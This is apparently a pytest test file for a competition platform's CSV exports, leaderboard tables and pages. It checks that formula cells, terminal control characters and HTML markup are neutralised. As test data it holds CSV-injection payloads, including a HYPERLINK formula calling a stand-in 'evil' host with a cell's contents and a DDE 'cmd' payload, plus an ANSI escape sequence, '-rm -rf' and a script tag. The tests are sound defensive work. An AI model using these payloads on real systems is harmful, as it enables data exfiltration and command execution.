"""Safe names and exports (issue 12): every CSV the platform writes neutralises formula
cells while numbers stay numbers; table output to a terminal strips control characters."""

import csv
import io

import pytest
from django.core.management import call_command

from competition import csv_safe
from competition.models import Item
from demodata import dataset
from tests.factories import make_team
from xacle_cli import output

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil"&A1,"Click")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_written_as_text(cell):
    assert csv_safe.safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [-1.5, 3, 0.0, "-1.5", "+3", "1e-05", "-.5", "5", None])
def test_numbers_stay_numbers(value):
    assert csv_safe.safe_cell(value) == value


def test_booleans_are_written_true_false():
    assert [csv_safe.safe_cell(True), csv_safe.safe_cell(False)] == ["true", "false"]


def test_plain_text_is_left_alone():
    assert csv_safe.safe_cell("A dog barks, then = signs") == "A dog barks, then = signs"


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def evil_board(competition, test_phase, alice, scored_submission):
    """Issue 12's reproducer: a team named like a spreadsheet formula, with control and
    direction-changing characters stored before names were checked."""
    team = make_team(competition, HYPERLINK, alice)
    scored_submission(test_phase, team, system="Evil_01")
    other = make_team(competition, "x\x1b[2J\x07\u202eevil")
    return scored_submission(test_phase, other, system="Evil_02")


def test_the_leaderboard_command_csv_neutralises_formulas(evil_board):
    out = io.StringIO()
    call_command("leaderboard", competition="xacle", phase="test", format="csv", stdout=out)
    rows = rows_of(out.getvalue())
    team, srcc = rows[0].index("team"), rows[0].index("srcc")
    teams = {row[team] for row in rows[1:]}
    assert "'" + HYPERLINK in teams and HYPERLINK not in teams
    assert all(float(row[srcc]) == float(row[srcc]) for row in rows[1:])  # still a number
    assert not any(cell.startswith(csv_safe.FORMULA_STARTS) for row in rows for cell in row
                   if not cell.lstrip("-").replace(".", "").isdigit())  # fmt: skip


def test_the_leaderboard_table_strips_control_characters(evil_board):
    out = io.StringIO()
    call_command("leaderboard", competition="xacle", phase="test", stdout=out)
    text = out.getvalue()
    assert "x[2Jevil" in text
    assert not any(char in text for char in "\x1b\x07\u202e")


def test_the_participants_cli_strips_control_characters():
    row = {"rank": 1, "team": "x\x1b[2J\x07\u202eevil", "system": "s\r\n01", "srcc": 0.5,
           "lcc": 0.5, "ktau": 0.5, "mse": 1.0, "n": 3, "submissions": 1}  # fmt: skip
    board = {"phase": "test", "split": "public", "by": "team", "hidden": False, "rows": [row]}
    text = output.leaderboard_text(board)
    assert "x[2Jevil" in text and "s01" in text
    assert not any(char in text for char in "\x1b\x07\u202e\r")
    failed = {"id": 1, "status": "failed", "system_name": "a\x1bb", "team": "t", "phase": "test",
              "reason": "bad\x07"}  # fmt: skip
    assert "\x1b" not in output.submission_text(failed)
    assert "\x07" not in output.submission_text(failed)


def test_data_downloads_neutralise_formula_texts(as_alice, competition):
    Item.objects.filter(competition=competition, partition="train").update(text="=cmd|'/C calc'!A0")
    rows = rows_of(b"".join(as_alice.get("/c/xacle/data/train_average.csv").streaming_content)
                   .decode())  # fmt: skip
    assert rows[0] == ["wav_file_name", "text", "average_score"]
    assert all(row[1] == "'=cmd|'/C calc'!A0" for row in rows[1:])
    assert all(float(row[2]) >= 0 for row in rows[1:])


def test_the_sample_submission_neutralises_formula_ids(client, competition):
    item = Item.objects.filter(competition=competition, partition="validation").first()
    item.wav_file_name = "@evil.wav"
    item.save()
    response = client.get("/api/competitions/xacle/phases/validation/sample_submission/")
    rows = rows_of(b"".join(response.streaming_content).decode())
    assert ["'@evil.wav", "5.0"] in rows


def test_the_demo_data_set_writer_neutralises_formulas(tmp_path):
    path = tmp_path / "x.csv"
    dataset._write_csv(path, ("wav_file_name", "text"), [("a.wav", "-rm -rf"), ("b.wav", "ok")])
    assert rows_of(path.read_text()) == [["wav_file_name", "text"], ["a.wav", "'-rm -rf"],
                                         ["b.wav", "ok"]]  # fmt: skip


def test_a_name_with_markup_is_shown_as_text(competition, validation, alice, client,
                                            scored_submission):  # fmt: skip
    team = make_team(competition, "<script>alert(1)</script>", alice)
    scored_submission(validation, team, system="Xss_01")
    page = client.get("/c/xacle/leaderboard/validation/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert" not in page


def test_the_leaderboard_download_neutralises_formulas_and_rounds_like_the_page(
    evil_board, alice, client
):
    client.force_login(alice)
    body = client.get("/c/xacle/leaderboard/test/download.csv?by=system").content.decode()
    rows = rows_of(body)
    team, srcc = rows[0].index("team"), rows[0].index("srcc")
    assert "'" + HYPERLINK in [row[team] for row in rows[1:]]
    # A participant's download of the public split holds the rounded numbers they see.
    assert all(len(row[srcc].split(".")[-1]) <= 4 for row in rows[1:])
